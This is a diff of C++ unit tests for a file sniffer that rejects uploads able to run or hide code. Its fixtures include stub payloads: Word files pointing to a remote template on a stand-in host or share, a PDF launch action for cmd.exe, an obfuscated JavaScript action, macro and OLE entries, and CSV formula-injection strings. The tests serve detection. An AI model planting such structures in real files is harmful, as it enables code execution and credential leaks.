@@ -62,7 +62,14 @@ std::string content_types(std::string_view main) {
 const Packed kWordTypes{"[Content_Types].xml", content_types("wordprocessingml.document.main+xml"), 0, true};
 const Packed kWordBody{"word/document.xml", "<w:document/>"};
 
-std::string pdf() { return "%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"; }
+std::string pdf(const std::string& object = "<<>>") {
+  return "%PDF-1.7\n1 0 obj\n" + object + "\nendobj\ntrailer\n<<>>\n%%EOF\n";
+}
+std::string template_at(const std::string& target) {
+  return "<Relationships><Relationship Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+         "attachedTemplate\" Target=\"" +
+         target + "\" TargetMode=\"External\"/></Relationships>";
+}
 std::string png() {
   return "\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\0\0\0\0....\0\0\0\0IEND\xae\x42\x60\x82"s;
 }
@@ -131,6 +138,24 @@ TEST(FileTypeOf, is_none_for_what_could_run_or_hide_something_and_says_what_it_i
                kWordBody}),
        "macros"},
       {zip_of({{"mimetype", "application/vnd.oasis.opendocument.text"},
+               kWordTypes,
+               kWordBody,
+               {"word/vbaProject.bin", std::string(80, 'x')}}),
+       "macros"},
+      {zip_of({{"mimetype", "application/vnd.oasis.opendocument.text"},
+               {"[Content_Types].xml", content_types("x") + "application/vnd.ms-word.document.macroEnabled.main+xml"},
+               {"word/document.xml", std::string(80, 'x')}}),
+       "macros"},
+      {zip_of({kWordTypes, kWordBody, {"Scripts/python/evil.py", "x"}}), "macros"},
+      {zip_of({kWordTypes, kWordBody, {"word/embeddings/oleObject1.bin", "x"}}), "OLE object"},
+      {zip_of({kWordTypes, kWordBody, {"word/_rels/settings.xml.rels", template_at("https://evil.example/a.dotm")}}),
+       "its template"},
+      {zip_of({kWordTypes, kWordBody, {"word/_rels/settings.xml.rels", template_at("\\\\evil\\share\\a.dotm")}}),
+       "its template"},
+      {pdf("<</S /Launch /F (cmd.exe)>>"), "starts a program"},
+      {pdf("<</S/J#61vaScript/JS(app.alert)>>"), "runs a script"},
+      {pdf("<</Type/EmbeddedFile>>"), "carries other files"},
+      {zip_of({{"mimetype", "application/vnd.oasis.opendocument.text"},
                {"Basic/Standard/Evil.xml", std::string(80, 'x')}}),
        "macros"},
   };
@@ -139,6 +164,13 @@ TEST(FileTypeOf, is_none_for_what_could_run_or_hide_something_and_says_what_it_i
     EXPECT_EQ(found.type, std::nullopt) << says;
     EXPECT_THAT(std::string(found.otherwise), HasSubstr(says));
   }
+}
+
+TEST(FileTypeOf, is_given_to_honest_files_that_look_a_little_alike) {
+  EXPECT_EQ(sniff(zip_of({kWordTypes, kWordBody, {"word/embeddings/Sheet1.xlsx", "x"}})).type, FileType::docx);
+  auto on_her_disk = template_at("file:///C:\\Users\\ada\\Letter.dotx");
+  EXPECT_EQ(sniff(zip_of({kWordTypes, kWordBody, {"word/_rels/settings.xml.rels", on_her_disk}})).type, FileType::docx);
+  EXPECT_EQ(sniff(pdf("<</Type/Page /Launchpad 1 /Title (Launch of JavaScript)>>")).type, FileType::pdf);
 }
 
 TEST(FileTypeOf, notices_what_was_cut_short) {
@@ -196,6 +228,16 @@ TEST(FileName, is_safe_to_store_show_and_save_under) {
   EXPECT_EQ(clean_name("data.csv", FileType::text), "data.csv");
   EXPECT_EQ(clean_name("data.html", FileType::text), "data.html.txt");
   EXPECT_EQ(clean_name("photo.jpeg", FileType::jpeg), "photo.jpeg");
+}
+
+TEST(FileName, of_a_csv_that_a_spreadsheet_would_calculate_ends_in_txt) {
+  for (std::string_view content : {"=cmd()", "\xEF\xBB\xBF=1", "a;b\n1;@SUM(A1)", "a,\"+1\"", "a\r\n =1"}) {
+    auto name = name_to_save("data.CSV", FileType::text, content);
+    EXPECT_EQ(name, "data.CSV.txt") << content;
+    EXPECT_EQ(clean_name(name, FileType::text), name);
+  }
+  EXPECT_EQ(name_to_save("data.csv", FileType::text, "a;b=c\n-1;x@y.example\n"), "data.csv");
+  EXPECT_EQ(name_to_save("notes.txt", FileType::text, "=1"), "notes.txt");
 }
 
 TEST(FileName, is_short_whatever_was_given) {
